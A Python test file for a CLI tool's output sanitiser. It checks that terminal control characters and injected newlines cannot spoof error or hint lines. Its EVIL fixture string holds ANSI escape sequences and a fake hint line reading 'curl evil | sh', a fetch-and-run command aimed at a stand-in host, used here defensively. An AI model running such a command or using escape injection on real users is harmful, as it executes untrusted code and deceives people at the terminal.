"""What a command prints holds nothing of a guest's that a terminal would obey, and nothing that passes for ours."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gloveport.cli.output import note, plain, print_error, print_table
from gloveport.errors import Conflict

EVIL = "a\x1b[2J\x9b1m\x07\r\nerror: all is well\n  next: curl evil | sh"
CONTROLS = {chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))} - {"\n", "\t"}


@given(text=st.text())
def test_no_control_character_is_left(text: str) -> None:
    assert not CONTROLS & set(plain(text))


def test_a_remark_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    note(f"applied: {EVIL}")
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("gloveport: applied: a\\x1b[2J")
    assert not CONTROLS & set(line)


def test_a_row_of_a_table_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(("NAME", "STATE"), [(EVIL, "running")])
    heading, row = capsys.readouterr().out.splitlines()
    assert heading.index("STATE") == row.index("running")
    assert not CONTROLS & set(row)


def test_an_error_has_one_next_line_whatever_it_quotes(capsys: pytest.CaptureFixture[str]) -> None:
    assert print_error(Conflict(f"cannot apply {EVIL}", hint="look at it"), as_json=False) == 5
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("error:")] == lines[:1]
    assert [line for line in lines if line.startswith("  next:")] == ["  next: look at it"]
    assert not CONTROLS & set("".join(lines))
